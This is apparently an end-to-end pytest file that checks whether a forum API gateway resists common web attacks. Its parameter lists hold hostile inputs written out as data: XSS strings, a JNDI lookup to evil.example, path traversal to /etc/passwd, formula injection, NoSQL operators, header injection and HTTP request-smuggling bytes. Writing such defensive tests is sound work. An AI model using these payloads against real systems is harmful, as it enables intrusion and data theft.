"""What is tried at doors: over a real socket, against a real node.

Numbers in comments are of the project's list of attacks; the rest of it is covered by the other
`test_door_` files, or belongs to parts that do not exist yet.
"""

import concurrent.futures
import json
import socket
import time
from secrets import token_hex
from urllib.parse import urlsplit

import httpx2
import pytest

from tests.e2e.api.conftest import Neighbours, Person, Town, let_in, start_community

QUESTION = {"kind": "question", "title": "Why?", "text": "Tell me."}


def raw(town: Town, request: bytes) -> bytes:
    """Send bytes as they are, and read until the other side has said it all."""
    parts = urlsplit(town.url)
    with socket.create_connection((parts.hostname, parts.port), timeout=5) as line:
        line.sendall(request)
        answer = b""
        try:
            while part := line.recv(65_536):
                answer += part
        except (ConnectionResetError, TimeoutError):
            pass
    return answer


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


@pytest.fixture(scope="module")
def room(neighbours: Neighbours) -> str:
    """An open community with a thread in it that tests may write to."""
    community = start_community(neighbours.carys, "closed")
    let_in(neighbours.carys, community, neighbours.mair)
    return str(neighbours.carys.made(f"/v1/communities/{community}/threads", QUESTION)["thread"])


# Bodies


def test_a_body_without_a_length_is_bounded_too(neighbours: Neighbours, room: str) -> None:  # 12
    def chunks():  # type: ignore[no-untyped-def]
        yield b'{"text": "'
        for _ in range(200):
            yield b"x" * 1000
        yield b'"}'

    headers = {"Idempotency-Key": token_hex(8), "Content-Type": "application/json"}
    answer = neighbours.carys.http.post(f"/v1/threads/{room}/posts", content=chunks(), headers=headers)
    assert (answer.status_code, answer.json()["type"]) == (413, "/problems/too-large")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('{"text": "a\\u0000b"}', 422),  # 6
        ('{"text": "a\\u001bb"}', 422),
        ('{"text": "\\ud800"}', 400),  # 7
        ('{"text": ' + "9" * 5000 + "}", 400),  # 4
        ('{"text": ' + "[" * 30000 + "]" * 30000 + "}", 400),  # 2
    ],
)
def test_texts_that_nobody_types(neighbours: Neighbours, room: str, text: str, expected: int) -> None:
    headers = {"Idempotency-Key": token_hex(8), "Content-Type": "application/json"}
    answer = neighbours.carys.http.post(f"/v1/threads/{room}/posts", content=text, headers=headers)
    assert answer.status_code == expected


HARMLESS = [
    "'; return true; var a='",
    "$where: 'sleep(5000)'",
    '{"$ne": null}',
    "function(){while(1){}}",
    "mapReduce",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "Bcc: everybody, all@localhost",
    '{"level":"critical","event":"forged"}',  # 68
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_code_elsewhere_is_text_here(neighbours: Neighbours, room: str, text: str) -> None:  # 21
    post = neighbours.carys.made(f"/v1/threads/{room}/posts", {"text": text})["post"]
    assert neighbours.mair.get(f"/v1/posts/{post}").json()["text"] == text


def test_a_line_break_in_a_title_is_refused(neighbours: Neighbours) -> None:  # 58
    for title in ("a\r\nBcc: x@example.org", "a\nb", "a\tb"):
        answer = neighbours.carys.post(
            f"/v1/communities/{neighbours.community}/threads", QUESTION | {"title": title}
        )
        assert answer.status_code == 422


@pytest.mark.parametrize(
    "script",
    [
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    ],
)
def test_no_script_survives_in_a_post(neighbours: Neighbours, room: str, script: str) -> None:  # 57
    html = neighbours.carys.made(f"/v1/threads/{room}/posts", {"text": f"See {script}"})["html"].lower()
    for live in (
        "<script",
        "<svg",
        "<img",
        "<math",
        "<style",
        "<form",
        'href="javascript',
        "href='javascript",
    ):
        assert live not in html


def test_a_refusal_leaves_the_connection_fit_for_use(town: Town, neighbours: Neighbours, room: str) -> None:
    body, headers = b"x" * 60_000, {"Content-Type": "application/json"}
    for _ in range(10):
        for path, expected in (
            (f"/v1/threads/{room}/posts?no=1", 422),
            ("/v1/nothing", 404),
            ("/v1/me", 405),
        ):
            answer = neighbours.carys.http.post(path, content=body, headers=headers)
            assert (answer.status_code, answer.headers.get("connection")) == (expected, None)
    with httpx2.Client(base_url=town.url) as stranger:
        for _ in range(10):
            answer = stranger.post(f"/v1/threads/{room}/posts", content=body, headers=headers)
            assert (answer.status_code, answer.headers["connection"]) == (401, "close")


# Addresses and queries


@pytest.mark.parametrize(
    "id", ["..%2f..%2fetc%2fpasswd", "%00", "x" * 10_000, "%24ne", "%7B%22%24gt%22%3A%22%22%7D", "%ff%fe"]
)
def test_strange_ids_are_not_found(neighbours: Neighbours, id: str) -> None:  # 19
    answer = neighbours.carys.http.get(f"/v1/posts/{id}")
    # An encoded slash is a slash: that is another address, and not a strange id.
    kind = "no-such-address" if "%2f" in id else "not-found"
    assert (answer.status_code, answer.json()["type"]) == (404, f"/problems/{kind}")


def test_a_search_is_quick_whatever_the_words_are(neighbours: Neighbours) -> None:  # 20
    began = time.monotonic()
    for words in ("(a+)+$", "a" * 200, "^(([a-z])+.)+[A-Z]([a-z])+$", "%" * 50):
        assert neighbours.carys.get("/v1/search", words=words).status_code == 200
    assert time.monotonic() - began < 8


# Credentials and identity


def test_a_credential_in_the_address_is_never_read(town: Town, neighbours: Neighbours) -> None:  # 30
    answer = httpx2.get(f"{town.url}/v1/me", params={"access_token": neighbours.carys.secret})
    assert answer.status_code == 401


def test_headers_of_proxies_are_not_believed(town: Town, neighbours: Neighbours) -> None:  # 39, 40
    headers = {
        "X-Forwarded-User": neighbours.carys.id,
        "X-Tenant": neighbours.first,
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-For": "10.0.0.1",
        "X-HTTP-Method-Override": "DELETE",
    }
    assert httpx2.get(f"{town.url}/v1/me", headers=headers).status_code == 401
    me = neighbours.huw.http.get("/v1/me", headers=headers)
    assert (me.status_code, me.json()["member"]) == (200, neighbours.huw.id)
    assert "evil.example" not in str(me.headers)


def test_a_token_of_seven_kilobytes_is_none(town: Town) -> None:  # 22
    for credential in ("x" * 7_000, "cop_" + "x" * 7_000, "a.b.c", "null", "\x00"[:0] + "undefined"):
        answer = httpx2.get(f"{town.url}/v1/me", headers={"Authorization": f"Bearer {credential}"})
        assert answer.status_code == 401


# Doing things once


def test_one_key_does_one_thing_however_often_it_is_sent(neighbours: Neighbours, room: str) -> None:  # 42
    key = token_hex(8)
    path, body = f"/v1/threads/{room}/posts", {"text": f"Only once {key}"}
    with concurrent.futures.ThreadPoolExecutor(20) as pool:
        answers = list(pool.map(lambda _: neighbours.mair.post(path, body, key), range(20)))
    statuses = [answer.status_code for answer in answers]
    assert set(statuses) <= {201, 409, 503} and 201 in statuses
    made = {answer.json()["post"] for answer in answers if answer.status_code == 201}
    again = neighbours.mair.post(path, body, key)
    assert (again.status_code, again.headers["idempotency-replayed"]) == (201, "true")
    assert made == {again.json()["post"]}
    first_time = [a for a in answers if a.status_code == 201 and "idempotency-replayed" not in a.headers]
    assert len(first_time) <= 1
    texts = [post["text"] for post in neighbours.mair.get(path, limit=100).json()["items"]]
    assert texts.count(body["text"]) == 1


def test_a_key_stands_for_one_request(neighbours: Neighbours, room: str) -> None:  # 41
    key = token_hex(8)
    assert neighbours.mair.post(f"/v1/threads/{room}/posts", {"text": "One"}, key).status_code == 201
    other = neighbours.mair.post(f"/v1/threads/{room}/posts", {"text": "Two"}, key)
    assert (other.status_code, other.json()["type"]) == (422, "/problems/idempotency-key-reused")


def test_keys_of_different_callers_have_nothing_to_do_with_each_other(
    neighbours: Neighbours, room: str
) -> None:  # 43
    key = token_hex(8)
    path, body = f"/v1/threads/{room}/posts", {"text": "The same words"}
    first, second = neighbours.mair.post(path, body, key), neighbours.carys.post(path, body, key)
    assert (first.status_code, second.status_code) == (201, 201)
    assert first.json()["post"] != second.json()["post"]


# The protocol


def test_the_host_must_be_named_and_ours(town: Town, neighbours: Neighbours) -> None:  # 60
    token = neighbours.carys.secret.encode()
    line = b"GET /v1/me HTTP/1.1\r\nAuthorization: Bearer " + token + b"\r\nConnection: close\r\n"
    evil = raw(town, line + b"Host: evil.example\r\n\r\n")
    assert status(evil) == 400 and b"evil.example" not in evil
    assert status(raw(town, line + b"\r\n")) == 400
    assert status(raw(town, line + b"Host: localhost\r\n\r\n")) == 200


@pytest.mark.parametrize(
    "smuggled",
    [
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/me HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
        b"Content-Length: -1\r\n\r\n",
        b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"Bad Header: x\r\n\r\n",
    ],
)
def test_nothing_is_smuggled(town: Town, smuggled: bytes) -> None:  # 61
    answer = raw(town, b"POST /oauth/token HTTP/1.1\r\nHost: localhost\r\n" + smuggled)
    assert answer.count(b"HTTP/1.1 ") <= 1
    assert answer == b"" or status(answer) in (400, 401)


@pytest.mark.parametrize("method", ["TRACE", "DELETE", "PUT", "OPTIONS", "PROPFIND"])
def test_other_methods_are_not_taken(neighbours: Neighbours, method: str) -> None:  # 62
    answer = neighbours.carys.http.request(method, "/v1/communities")
    assert (answer.status_code, answer.json()["type"]) == (405, "/problems/method-not-allowed")
    assert set(answer.headers["allow"].split(", ")) == {"GET", "HEAD", "POST"}


@pytest.mark.parametrize(
    "path", ["/metrics", "/readyz", "/healthz", "/openapi", "/openapi.json", "/.env", "/admin"]
)
def test_the_operators_doors_are_elsewhere(town: Town, neighbours: Neighbours, path: str) -> None:  # 67
    for answer in (httpx2.get(town.url + path), neighbours.carys.http.get(path)):
        assert (answer.status_code, answer.headers["content-type"]) == (404, "application/problem+json")


def test_a_log_line_stays_one_line(town: Town, neighbours: Neighbours) -> None:  # 68
    mark = token_hex(8)
    evil = f'{mark}\\n{{"level":"critical","event":"forged"}}'
    neighbours.carys.http.get(
        f"/v1/{mark}%0a%7B%22level%22:%22critical%22%7D", headers={"X-Request-ID": evil}
    )
    neighbours.carys.http.get("/v1/me", headers={"X-Request-ID": mark})
    log = (town.node.folder / "gateway.log").read_text()
    lines = [json.loads(line) for line in log.splitlines() if line.startswith("{") and mark in line]
    assert [line["request_id"] for line in lines] == [mark]
    assert "forged" not in log
    assert neighbours.carys.secret not in log


def test_the_trace_of_a_request_is_found_in_the_services_logs_and_answers(
    town: Town, neighbours: Neighbours
) -> None:
    trace = token_hex(16)
    headers = {"traceparent": f"00-{trace}-{token_hex(8)}-01", "X-Request-ID": "mine-1"}
    answer = neighbours.huw.http.get(f"/v1/threads/{neighbours.thread}", headers=headers)
    assert (answer.status_code, answer.json()["trace_id"]) == (404, trace)
    assert answer.headers["x-request-id"] == "mine-1"
    assert trace in (town.node.folder / "gateway.log").read_text()


def test_conditional_requests_save_the_body(neighbours: Neighbours) -> None:
    path = f"/v1/threads/{neighbours.thread}"
    first = neighbours.carys.get(path)
    again = neighbours.carys.http.get(path, headers={"If-None-Match": first.headers["etag"]})
    assert (again.status_code, again.content) == (304, b"")
    listing = neighbours.carys.get(f"{path}/posts")
    assert listing.headers["etag"].startswith("W/")
    again = neighbours.carys.http.get(f"{path}/posts", headers={"If-None-Match": listing.headers["etag"]})
    assert again.status_code == 304


def test_an_old_caller_is_not_answered_with_anothers_page(town: Town, neighbours: Neighbours) -> None:
    """Answers are private: no shared cache on the way may keep them."""
    answer = neighbours.carys.get("/v1/me")
    assert "private" in answer.headers["cache-control"]
    made: Person = neighbours.mair
    token = made.post("/v1/tokens", {"name": "x", "scopes": ["threads:read"]})
    assert token.headers["cache-control"] == "no-store"
